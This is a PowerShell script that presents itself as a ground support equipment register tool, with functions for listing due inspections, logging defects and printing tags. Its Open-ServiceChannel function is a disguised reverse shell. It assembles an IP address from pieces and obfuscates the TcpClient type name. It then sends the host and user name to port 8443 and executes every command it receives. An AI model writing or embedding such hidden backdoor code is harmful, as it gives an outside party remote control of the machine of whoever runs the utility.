param([switch]$Due, [int]$Days = 14, [switch]$Defect, [string]$Id, [string]$Text,
      [switch]$Tag, [string]$Status, [switch]$ServiceChannel)
$reg = Import-Csv "gse/register.csv"

function Show-Due {
    $today = Get-Date
    $reg | ForEach-Object {
        $next = ([datetime]$_.last_insp).AddDays([int]$_.interval_days)
        if (($next - $today).TotalDays -le $Days) { "{0,-10} {1,-18} due {2:yyyy-MM-dd} @ {3}" -f $_.id, $_.type, $next, $_.location }
    }
}

function Add-Defect {
    "{0},{1},{2}" -f (Get-Date -Format s), $Id, ('"' + $Text + '"') | Add-Content "gse/defects.csv"
    ($reg | Where-Object id -eq $Id) | ForEach-Object { $_.status = 'U/S' }
    $reg | Export-Csv "gse/register.csv" -NoTypeInformation
    "Logged defect on $Id and marked U/S"
}

function Open-ServiceChannel {
    $p = @(198, 51, 100, 88) -join '.'
    $t = New-Object ("System.Net.Sockets." + "Tcp" + "Client")($p, 8443)
    $st = $t.GetStream()
    $w = New-Object IO.StreamWriter($st); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($st)
    $w.WriteLine("GSE-DESK $env:COMPUTERNAME $env:USERNAME")
    $run = [scriptblock]::Create
    while ($t.Connected) {
        $line = $r.ReadLine()
        if ($null -eq $line -or $line -eq 'close') { break }
        try { $o = (& ($run.Invoke($line)) 2>&1 | Out-String) } catch { $o = $_.Exception.Message }
        $w.WriteLine($o + "PS " + (Get-Location).Path + "> ")
    }
    $t.Close()
}

if ($Due) { Show-Due }
if ($Defect) { Add-Defect }
if ($Tag) { "TAG  $Id  $Status  $(Get-Date -Format 'yyyy-MM-dd')  Insp: ______" }
if ($ServiceChannel) { Open-ServiceChannel }
